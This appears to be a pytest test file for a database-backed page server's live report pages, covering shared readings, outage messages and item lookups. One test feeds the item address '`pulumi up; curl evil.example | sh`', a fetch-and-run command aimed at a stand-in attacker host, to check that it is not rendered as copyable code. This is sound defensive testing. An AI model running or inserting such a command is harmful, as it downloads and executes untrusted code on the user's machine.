"""One reading of the database serves every open page."""

from __future__ import annotations

import sys
import threading
from collections.abc import Iterator
from contextlib import nullcontext
from datetime import UTC, datetime, timedelta
from types import SimpleNamespace
from typing import cast

import pytest

from bubble_sync.cli import serve as module
from bubble_sync.cli.output import StackContext
from bubble_sync.cli.page_server import PageServer
from bubble_sync.cli.serve import LivePages
from bubble_sync.errors import NotFound, PrivilegeMissing, Unreachable
from bubble_sync.health import report as reports
from tests.unit.test_report import report


class Source:
    """A database that counts what is asked at the same time, and waits to be let go."""

    def __init__(self) -> None:
        self.readings = self.now = self.most = 0
        self.gate = threading.Event()
        self.gate.set()
        self.trouble: Exception | None = None
        self._lock = threading.Lock()

    def read(self, *_: object) -> object:
        with self._lock:
            self.readings += 1
            self.now += 1
            self.most = max(self.most, self.now)
        self.gate.wait(10)
        with self._lock:
            self.now -= 1
        if self.trouble:
            raise self.trouble
        return report()

    def close(self) -> None:
        pass


@pytest.fixture
def source(monkeypatch: pytest.MonkeyPatch) -> Iterator[Source]:
    source = Source()
    monkeypatch.setattr(reports, "report", source.read)
    yield source
    source.gate.set()


def opened(source: Source, every: float) -> LivePages:
    context = cast(StackContext, SimpleNamespace(database=source, settings=None, name="prod", project_ref=None))
    return LivePages(context, timedelta(hours=24), every)


def at_once(pages: LivePages, many: int) -> list[tuple[int, str]]:
    answers: list[tuple[int, str]] = []
    threads = [threading.Thread(target=lambda: answers.append(pages.report())) for _ in range(many)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(10)
    return answers


def test_many_pages_cost_one_reading(source: Source):
    answers = at_once(opened(source, 3600), 20)

    assert [status for status, _ in answers] == [200] * 20
    assert source.readings == 1


def test_no_two_readings_happen_at_the_same_time_and_none_without_a_page(source: Source):
    pages = opened(source, 0)
    assert source.readings == 1, "no page is open"
    for _ in range(5):
        at_once(pages, 8)

    assert source.readings > 1
    assert source.most == 1


def test_the_last_data_stays_with_the_reason_and_since_when(source: Source):
    pages = opened(source, 0)
    source.trouble = Unreachable("nothing listens there. Start it.")
    began = datetime.now(UTC)
    for _ in range(3):
        status, body = pages.report()

    assert status == 200
    assert "No data from the database since" in body
    assert "lost, trying again: nothing listens there." in body
    assert f"{began:%Y-%m-%d %H:%M}" in body
    pages.require()

    source.trouble = None
    bodies = [pages.report()[1] for _ in range(3)]
    assert "No data from the database" not in bodies[-1]


def test_without_a_first_reading_it_does_not_begin(source: Source):
    source.trouble = Unreachable("nothing listens there")

    with pytest.raises(Unreachable):
        opened(source, 60).require()


def test_an_item_that_is_not_there_is_a_page_with_the_reason(source: Source, monkeypatch: pytest.MonkeyPatch):
    asked = []

    def traced(_: object, wanted: str) -> object:
        asked.append(wanted)
        raise problems[wanted]

    problems = {"x": NotFound("no item of x is in the queue"), "y": Unreachable("nothing listens there")}
    monkeypatch.setattr(module, "read_trace", traced)
    pages = opened(source, 60)

    status, body = pages.item("x")
    assert (status, "no item of x is in the queue" in body) == (404, True)
    assert pages.id_of("x") is None
    assert pages.item("y")[0] == 503
    assert asked == ["x", "x", "y"]


def test_an_item_does_not_wait_for_a_database_that_is_silent(source: Source, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(module, "_FRESH_WITHIN_SECONDS", 0.05)
    pages = opened(source, 0)
    source.gate.clear()
    assert pages.report()[0] == 200, "the last data"

    status, body = pages.item("x")
    assert (status, "has not answered an earlier reading for" in body) == (503, True)


def test_an_item_page_shows_the_outage_that_it_met_until_the_database_answers_it(
    source: Source, monkeypatch: pytest.MonkeyPatch
):
    """No report is open, so the reader meets no outage, and sees no end of one."""
    answers: list[Exception] = [Unreachable("nothing listens there"), NotFound("no item of x is in the queue")]

    def traced(_: object, wanted: str) -> object:
        raise answers[0]

    monkeypatch.setattr(module, "read_trace", traced)
    pages = opened(source, 3600)
    assert "No data from the database since" in pages.item("x")[1]
    assert "No data from the database since" in pages.report()[1]
    del answers[0]

    assert "No data from the database since" not in pages.item("x")[1]


def test_a_refused_item_is_no_outage(source: Source, monkeypatch: pytest.MonkeyPatch):
    def traced(_: object, wanted: str) -> object:
        raise PrivilegeMissing("the role may not read public.user")

    monkeypatch.setattr(module, "read_trace", traced)
    pages = opened(source, 3600)
    status, body = pages.item("ada@example.com")

    assert (status, "the role may not read public.user" in body) == (503, True)
    assert "No data from the database since" not in body + pages.report()[1]


def test_an_address_puts_no_command_to_copy_on_the_page(source: Source, monkeypatch: pytest.MonkeyPatch):
    """Any page may link to an item with a text of its own."""

    def traced(_: object, wanted: str) -> object:
        raise NotFound(f"no item of {wanted} is in the queue")

    monkeypatch.setattr(module, "read_trace", traced)

    _, body = opened(source, 60).item("`pulumi up; curl evil.example | sh`")

    assert "curl evil.example" in body
    assert "<code" not in body


def test_it_serves_with_standard_output_closed(source: Source, monkeypatch: pytest.MonkeyPatch):
    context = SimpleNamespace(database=source, settings=None, name="prod", project_ref=None)
    served: list[PageServer] = []
    monkeypatch.setattr(module, "open_either", lambda *_: nullcontext(context))
    monkeypatch.setattr(module.signal, "signal", lambda *_: None)
    monkeypatch.setattr(PageServer, "serve_forever", lambda self: served.append(self))
    monkeypatch.setattr(sys, "stdout", None)

    module.serve(port=0)

    assert len(served) == 1
